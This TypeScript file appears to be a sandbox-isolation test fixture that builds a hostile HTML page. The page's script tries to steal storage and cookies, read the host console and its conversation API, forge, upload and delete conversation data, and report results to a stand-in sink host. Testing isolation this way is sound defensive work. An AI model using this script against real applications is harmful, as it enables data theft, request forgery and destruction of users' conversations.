/** A page that tries everything to reach the console it is shown in, and says what came of each attempt. */
export function hostilePage(sink: string, conversation: string): string {
  return `<!doctype html>
<title>Free bread</title>
<h1>Free bread</h1>
<output></output>
<iframe name="inner" hidden></iframe>
<form id="form" method="post" action="/api/conversations" target="inner" enctype="text/plain"><input name="{}" value=""></form>
<script>
const api = '/api/conversations'
const one = api + '/${conversation}'
const read = async (response) => (response.type === 'opaque' ? Promise.reject(new Error('opaque')) : response.text())
const frame = (url) => new Promise((resolve, reject) => {
  const inside = document.createElement('iframe')
  inside.onload = () => {
    try {
      resolve(inside.contentDocument.body.textContent)
    } catch (error) {
      reject(error)
    }
    if (inside.contentDocument === null) reject(new Error('no document'))
  }
  inside.src = url
  document.body.append(inside)
})
const attempts = {
  localStorage: () => JSON.stringify(localStorage),
  sessionStorage: () => JSON.stringify(sessionStorage),
  indexedDB: () => new Promise((resolve, reject) => {
    const request = indexedDB.open('okcvm')
    request.onsuccess = () => resolve('opened')
    request.onerror = () => reject(request.error)
  }),
  caches: () => caches.keys().then(String),
  cookie: () => document.cookie,
  parentDocument: () => other().document.body.innerHTML,
  parentStorage: () => JSON.stringify(other().localStorage),
  parentAddress: () => other().location.href,
  topNavigation: () => { if (window === top) throw new Error('alone'); top.location = '${sink}/moved'; return 'moved' },
  readList: () => fetch(api).then(read),
  readListWithCookies: () => fetch(api, { credentials: 'include' }).then(read),
  readListUnseen: () => fetch(api, { mode: 'no-cors', credentials: 'include' }).then(read),
  readFiles: () => fetch(one + '/files', { credentials: 'include' }).then(read),
  readConsole: () => fetch('/').then(read),
  watch: () => new Promise((resolve, reject) => {
    const source = new EventSource(one + '/events', { withCredentials: true })
    source.onmessage = ({ data }) => resolve(data)
    source.onerror = () => { source.close(); reject(new Error('closed')) }
  }),
  create: () => fetch(api, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(read),
  createAsJson: () => fetch(api, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then(read),
  send: () => fetch(one + '/turns', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"messageId":"thief","text":"hi"}' }).then(read),
  upload: () => fetch(one + '/files/thief.txt', { method: 'PUT', body: 'hi' }).then(read),
  form: () => { document.getElementById('form').submit(); throw new Error('sent without an answer') },
  frameApi: () => frame(api),
  frameConsole: () => frame('/'),
  worker: () => navigator.serviceWorker.register('script.js').then(() => 'registered'),
  tellSink: () => fetch('${sink}/outcomes', { method: 'POST', body: 'all of it' }).then(read),
  tellSinkByImage: () => new Promise((resolve, reject) => {
    const image = new Image()
    image.onload = () => resolve('loaded')
    image.onerror = reject
    image.src = '${sink}/pixel'
  }),
  remove: () => fetch(one, { method: 'DELETE', credentials: 'include' }).then(read),
  setCookie: () => { document.cookie = 'okc_client_id=thief; path=/'; return document.cookie },
  popup: () => { const popup = open('/'); if (!popup) throw new Error('no popup'); return popup.document.body.innerHTML },
}
function other() {
  const place = window === parent ? opener : parent
  if (!place) throw new Error('nobody there')
  return place
}
const outcomes = {}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    outcomes[name] = 'GOT ' + String(await attempt()).slice(0, 200)
  } catch (error) {
    outcomes[name] = 'refused'
  }
}
document.querySelector('output').textContent = JSON.stringify(outcomes)
</script>`.replace('<script>', '<script type="module">')
}
